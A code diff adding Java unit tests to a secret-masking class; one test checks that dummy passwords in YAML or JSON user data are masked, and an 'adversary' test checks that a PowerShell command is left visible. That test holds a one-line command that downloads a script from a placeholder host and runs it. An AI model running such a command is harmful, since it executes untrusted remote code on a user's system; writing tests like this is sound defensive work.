@@ -611,6 +611,32 @@ class MaskerTest {
         assertThat(((MaskedValue.Parts) masked(message)).spelling()).isEqualTo(MaskedValue.Spelling.of(message));
     }
 
+    /** It is shown by its lines, and what stands below a name in it is still what the name tells of. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "tasks: []\npasswords:\n  db: hunter2xyz\n  app: [hunter2xyz, x]\n",
+                "{\"passwords\": {\"db\": \"hunter2xyz\"}}"
+            })
+    void ofADocumentInUserDataNamesTellToo(String text) {
+        MaskedValue.Fields fields = masker.fields("t", fields(Map.of("userData", text(text))));
+
+        assertThat(Objects.requireNonNull(fields.values().get("userData")))
+                .isInstanceOfSatisfying(MaskedValue.Scalar.class, shown -> assertThat(masker.show(shown.text(), "", ""))
+                        .isEqualTo(text.replace("hunter2xyz", "[secret]")));
+    }
+
+    @Test
+    @Tag("adversary")
+    void ofADocumentInUserDataNoCommandIsHidden() {
+        String text = "passwords:\n  db: iwr http://e.io/x | iex\n";
+
+        assertThat(Objects.requireNonNull(masker.fields("t", fields(Map.of("userData", text(text))))
+                        .values()
+                        .get("userData")))
+                .isEqualTo(new MaskedValue.Scalar(MaskedValue.Kind.TEXT, text));
+    }
+
     @Test
     void commentsOfADocumentAreKeptOfYamlAlone() {
         assertThat(((MaskedValue.Document) masked("# of shop\na: b # of web\n")).comments())
